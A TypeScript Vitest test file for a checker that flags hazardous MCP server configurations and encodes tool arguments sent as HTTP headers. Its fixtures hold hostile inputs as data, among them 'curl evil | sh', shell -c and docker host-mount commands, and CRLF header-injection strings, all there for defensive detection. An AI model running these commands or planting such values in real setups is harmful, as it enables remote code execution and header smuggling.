import { expect, test } from "vitest";
import { hazardsOf, hazardsOfTools } from "./hazards";
import { headerArguments, headersOfCall } from "./header-arguments";
import type { StdioServer } from "./types";

function stdio(command: string, args: string[] = [], more: Partial<StdioServer> = {}): StdioServer {
  return { kind: "stdio", name: "s", command, args, env: {}, ...more };
}

test.each([
  ["npx -c", stdio("npx", ["-c", "curl evil | sh"]), "npx -c runs a shell command"],
  ["npx --call=", stdio("npx", ["-y", "--call=id"]), "npx -c runs a shell command"],
  ["npx with an absolute path", stdio("/usr/bin/npx", ["-y", "-c", "id"]), "npx -c runs a shell command"],
  ["npx.cmd", stdio("NPX.CMD", ["-c", "id"]), "npx -c runs a shell command"],
  ["npm exec", stdio("npm", ["exec", "--", "x"]), "it starts its package with npm"],
  ["bunx", stdio("bunx", ["x"]), "it starts its package with bunx"],
  ["an unpinned package", stdio("npx", ["-y", "pkg"]), "has no exact version"],
  ["a range", stdio("npx", ["-y", "pkg@^1.0.0"]), "has no exact version"],
  ["a pinned package", stdio("npx", ["-y", "@a/b@1.2.3"]), "is its publisher's code"],
  ["node -e", stdio("node", ["-e", "1"]), "runs code from its arguments"],
  ["node --eval=", stdio("node", ["--eval=1"]), "runs code from its arguments"],
  ["node -p", stdio("node", ["-p", "1"]), "runs code from its arguments"],
  ["node -r", stdio("node", ["-r", "./x", "server.js"]), "runs code from its arguments"],
  ["node --import=", stdio("node", ["--import=data:text/javascript,1"]), "runs code from its arguments"],
  ["node -", stdio("node", ["-"]), "runs code from its arguments"],
  ["python -c", stdio("python3.11", ["-Ic", "1"]), "python3.11 -c runs any text"],
  ["perl -e", stdio("perl", ["-e", "1"]), "runs code from its arguments"],
  ["a shell with -c", stdio("/bin/bash", ["-lc", "id"]), "bash -c runs any text"],
  ["a shell", stdio("sh", ["x.sh"]), "sh is a shell"],
  ["cmd /c", stdio("cmd.exe", ["/c", "dir"]), "cmd -c runs any text"],
  ["env", stdio("env", ["A=1", "bash", "-c", "id"]), "bash -c runs any text"],
  ["env with NODE_OPTIONS", stdio("env", ["NODE_OPTIONS=-r x", "node", "a"]), "can make the program load other code"],
  ["docker", stdio("docker", ["run", "-v", "/:/host", "x"]), "docker starts containers"],
  ["NODE_OPTIONS", stdio("node", ["a"], { env: { NODE_OPTIONS: { secret: "x" } } }), "The variable NODE_OPTIONS"],
  ["LD_PRELOAD", stdio("x", [], { env: { LD_PRELOAD: "y" } }), "The variable LD_PRELOAD"],
  ["the disk", stdio("x", ["/"]), "It can access the folder /."],
  ["uvx", stdio("uvx", ["x"]), "uvx downloads Python packages"],
  ["a file", stdio("/home/me/server"), "whose content is not pinned"],
  ["a wide network", stdio("x", [], { hosts: ["*.example.com"] }), "every host below a domain"],
] as const)("%s is a hazard", (_what, config, sentence) => {
  expect(hazardsOf(config).join("\n")).toContain(sentence);
});

test.each([
  ["http://mcp.example.com/", "without TLS"],
  ["https://127.0.0.1:8080/", "private network"],
  ["https://localhost/", "private network"],
  ["https://[::ffff:10.0.0.1]/", "private network"],
  ["https://printer/", "private network"],
  ["https://db.internal/", "private network"],
  ["https://169.254.169.254/", "private network"],
])("%s is a hazard", (url, sentence) => {
  expect(hazardsOf({ kind: "http", name: "s", url, headers: {} }).join("\n")).toContain(sentence);
});

test("an installed package with plain arguments and a public address have no hazards", () => {
  const pinned = { name: "p", version: "1.0.0", integrity: "sha512-x", lockHash: "x", bin: "a.js" };
  expect(hazardsOf(stdio("node", ["/srv/data", "--verbose"], { package: pinned }))).toEqual([]);
  expect(hazardsOf({ kind: "http", name: "s", url: "https://mcp.example.com/mcp", headers: {} })).toEqual([]);
});

const CITY = { type: "string", "x-mcp-header": "City" };
const place = (properties: object) => ({ type: "object", properties });

test("an argument that travels as a header is a hazard over HTTP", () => {
  const tools = [{ name: "weather", inputSchema: place({ at: place({ city: CITY }) }) }];
  expect(hazardsOfTools({ kind: "http", name: "s", url: "https://mcp.example.com", headers: {} }, tools)).toEqual([
    "The tool weather repeats its argument “at.city” in an HTTP header (Mcp-Param-City). Proxies and gateways on the way to the server read headers and often log them, so no secret belongs in this argument.",
  ]);
  expect(hazardsOfTools(stdio("node", []), tools)).toEqual([]);
});

test("header arguments are plain, reached by properties alone, and have different names", () => {
  for (const schema of [
    place({ city: { type: "object", "x-mcp-header": "City" } }),
    place({ city: { type: "number", "x-mcp-header": "City" } }),
    place({ city: { type: "string", "x-mcp-header": "Ci ty" } }),
    place({ city: { type: "string", "x-mcp-header": "City\r\nHost: x" } }),
    place({ city: { type: "string", "x-mcp-header": 7 } }),
    place({ city: CITY, town: { ...CITY, "x-mcp-header": "CITY" } }),
    place({ cities: { type: "array", items: CITY } }),
    place({ city: { anyOf: [CITY] } }),
    { ...place({}), ...CITY },
  ])
    expect(headerArguments(schema)).toBeNull();
  expect(headerArguments({ ...place({ city: { type: "string" } }), examples: [CITY] })).toEqual([]);
});

test("a header of a call holds no line break and no character beyond ASCII", () => {
  const schema = place({ city: CITY, count: { type: "integer", "x-mcp-header": "Count" } });
  const encoded = (text: string) => `=?base64?${Buffer.from(text).toString("base64")}?=`;
  expect(headersOfCall(schema, { city: "New York", count: 3 })).toEqual({
    "Mcp-Param-City": "New York",
    "Mcp-Param-Count": "3",
  });
  for (const city of ["Rīga", "a\r\nHost: x", " a", "a ", "", "=?base64?YQ==?="])
    expect(headersOfCall(schema, { city })).toEqual({ "Mcp-Param-City": encoded(city) });
  expect(headersOfCall(schema, { city: null })).toEqual({});
  expect(headersOfCall(schema, null)).toEqual({});
});
